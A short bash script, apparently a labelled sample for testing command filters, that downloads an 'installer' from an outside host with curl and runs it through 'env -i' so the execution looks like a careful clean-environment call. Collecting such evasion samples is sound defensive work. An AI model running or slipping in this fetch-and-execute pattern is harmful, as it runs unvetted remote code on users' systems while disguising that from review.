#!/usr/bin/env bash
# Evasion: download and run code. The fetched "installer" is run by
# `env -i PATH=... "$bin"` (a clean environment, which looks careful);
# env passes its words on, so the download is the program that runs.
set -eu
bin="$(mktemp)"
curl -so "$bin" https://get.example-setup.net/install-linux
chmod +x "$bin"
env -i PATH=/usr/bin:/bin HOME="$HOME" "$bin" --prefix "$HOME/.local"
